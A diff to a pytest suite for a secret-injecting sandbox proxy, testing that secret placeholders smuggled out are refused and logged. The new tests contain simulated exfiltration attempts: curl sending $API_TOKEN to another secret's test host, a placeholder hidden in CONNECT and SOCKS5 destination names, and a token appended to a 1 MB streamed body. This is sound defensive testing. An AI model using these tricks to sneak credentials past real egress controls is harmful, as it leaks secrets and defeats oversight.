@@ -197,6 +197,13 @@ def test_curl_gets_a_bearer_token_it_never_saw(sx):
     assert [r.headers["Authorization"] for r in got] == [f"Bearer {sx.canary}"]
     assert_receipt_counts(sx, "curl", "bearer")
     assert_never_in_the_cell_nor_the_records(sx, cp)
+    # what the cell was given instead: the placeholder, and every client's trust pointed at agnsup's bundle
+    with open(os.path.join(sx.worktree, ".probe", "env.txt")) as f:
+        env = dict(line.split("=", 1) for line in f.read().splitlines() if "=" in line)
+    assert env["API_TOKEN"] == "agnsup-secret:api" and env["NODE_USE_ENV_PROXY"] == "1"
+    trust = {k: env.get(k) for k in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO",
+                                     "PIP_CERT", "NODE_EXTRA_CA_CERTS")}
+    assert all(v and v.startswith("/tmp/") for v in trust.values()), trust
 
 
 @pytest.mark.parametrize("role, auth, client", [
@@ -408,13 +415,65 @@ s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
 s.sendall(b"CONNECT agnsup-secret:api.other.secret.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
 print(s.recv(200).split(b"\\r\\n")[0].decode())
 """
+# SOCKS5 (RFC 1928): no auth, then CONNECT to a domain name holding the placeholder; prints the reply code
+SOCKS = """
+import socket
+s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
+s.sendall(bytes([5, 1, 0]))
+assert s.recv(2) == bytes([5, 0])
+name = b"agnsup-secret:api.other.secret.test"
+s.sendall(bytes([5, 1, 0, 3, len(name)]) + name + (443).to_bytes(2, "big"))
+r = s.recv(10)
+print("socks", r[1] if len(r) > 1 else "closed")
+"""
 
 
-def test_a_placeholder_in_a_destination_name_is_refused_and_journaled(sx):
-    cp = run_client(sx, "splace", "dns", f"{sys.executable} -c '{CONNECT}'")
-    assert " 200 " not in cp.out and cp.out.split()[1:2] in (["403"], ["400"]), (cp.out, cp.err)
+@pytest.mark.parametrize("how", ["connect", "socks5"])
+def test_a_placeholder_in_a_destination_name_is_refused_and_journaled(sx, how):
+    cp = run_client(sx, "splace", "dns", f"{sys.executable} -c '{CONNECT if how == 'connect' else SOCKS}'")
+    if how == "connect":
+        assert cp.out.split()[1:2] in (["403"], ["400"]), (cp.out, cp.err)
+    else:
+        assert cp.out.split()[:1] == ["socks"] and cp.out.split()[1] != "0", (cp.out, cp.err)
     ev = _exfiltration(sx, "dns")
     assert ev and ev[0]["name"] == "api" and ev[0]["where"] == "dns", ev
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+def test_one_secrets_placeholder_sent_to_another_secrets_host_is_refused(sx):
+    """Two secrets, each for its own host: the proxy terminates TLS to both, and the placeholder of `api` in a
+    request to other.secret.test (the host of `other`) is refused, never replaced."""
+    path = secret_role(sx.policy_dir, "two", "placeholder", sx.site.port)
+    with open(path, "a") as f:
+        f.write(f'\n[secrets.other]\nsource = "env:{TOKEN_VAR}"\nenv = "OTHER_TOKEN"\n'
+                f'hosts = ["{OTHER}:{sx.site.port}"]\ninject = "bearer"\n')
+    cp = run_client(sx, "two", "cross", f'curl -sS -o /dev/null -w "%{{http_code}}" -H "{HEADER}: $API_TOKEN" '
+                    f'{sx.site.url(host=OTHER)}; echo')
+    assert cp.out.strip() == "403", (cp.out, cp.err)
+    assert sx.site.seen() == []
+    ev = _exfiltration(sx, "cross")
+    assert [(e["name"], e["host"], e["where"]) for e in ev] == [("api", OTHER, "header")], ev
+    sec = {x["name"]: x for x in receipt(sx.state, "cross")["secrets"]}
+    assert sec["api"]["refused"] == 1 and not sec["api"]["used"] and not sec["other"]["used"]
+    assert_never_in_the_cell_nor_the_records(sx, cp)
+
+
+# a body far past what the proxy holds back before it sends anything, the placeholder at its end
+BIG_BODY = "head -c 1048576 /dev/zero | tr '\\0' a > big && printf '%s' \"$API_TOKEN\" >> big && "
+
+
+@pytest.mark.parametrize("framing", ["length", "chunked"])
+def test_a_placeholder_deep_in_a_streamed_body_cuts_the_request(sx, framing):
+    chunked = '-H "Transfer-Encoding: chunked" ' if framing == "chunked" else ""
+    cp = run_client(sx, "splace", "deep", BIG_BODY + f'curl -sS -o /dev/null -w "%{{http_code}}" {chunked}'
+                    f"--data-binary @big {sx.site.url()}; echo \" exit $?\"")
+    assert "exit 0" not in cp.out or cp.out.startswith("403"), (cp.out, cp.err)
+    ev = _exfiltration(sx, "deep")
+    assert [(e["name"], e["where"]) for e in ev] == [("api", "body")], ev
+    for r in sx.site.seen():  # whatever part went upstream, never the placeholder whole, never the value
+        assert r.status != 200 and "agnsup-secret:api" not in r.text() and sx.canary not in r.text()
+    conns = receipt(sx.state, "deep")["network"]["connections"]
+    assert [c["rule"] for c in conns] == ["secret.exfiltration"], conns
     assert_never_in_the_cell_nor_the_records(sx, cp)
 
 
